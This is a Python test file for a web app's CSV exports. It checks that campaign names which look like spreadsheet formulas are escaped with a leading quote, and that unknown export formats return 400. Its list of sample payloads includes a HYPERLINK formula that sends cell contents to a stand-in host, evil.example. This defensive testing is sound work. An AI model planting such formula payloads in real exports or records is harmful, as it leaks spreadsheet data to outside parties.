"""Issue 42, item 10: "CSV exports run formulas: a campaign named `=HYPERLINK(...)` is copied verbatim into the run
table's CSV. Neutralise cells beginning with `= + - @` (and tab, carriage return) in every CSV the site writes; an
unknown export format is a 400, not silently CSV."
"""

import csv
import io

import pytest

from evaluator.exports.spreadsheets import safe_cell
from evaluator.records.models import Campaign

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]


def rows_of(response) -> list[dict]:
    assert response["Content-Type"].startswith("text/csv")
    return list(csv.DictReader(io.StringIO(response.content.decode())))


@pytest.mark.parametrize("name", FORMULAS)
def test_a_campaign_named_like_a_formula_is_text_in_every_csv(operator, make_attempt, name):
    attempt = make_attempt()
    Campaign.objects.filter(pk=attempt.campaign_id).update(name=name)
    for response in (
        operator.get("/attempts/", {"format": "csv"}),
        operator.get(f"/campaigns/{attempt.campaign_id}/export.csv"),
    ):
        (row,) = rows_of(response)
        assert row["campaign_name"] == "'" + name
        assert row["attempt"] == str(attempt.pk)  # numbers stay numbers


def test_numbers_and_plain_text_are_written_as_they_are():
    assert [safe_cell(v) for v in (-0.5, 3, None, True, "reach", "a=b")] == [-0.5, 3, None, True, "reach", "a=b"]


@pytest.mark.parametrize("path", ["/attempts/?format=xlsx", "/campaigns/{campaign}/export.xlsx"])
def test_an_unknown_export_format_is_a_400(operator, make_attempt, path):
    attempt = make_attempt()
    response = operator.get(path.format(campaign=attempt.campaign_id))
    assert response.status_code == 400
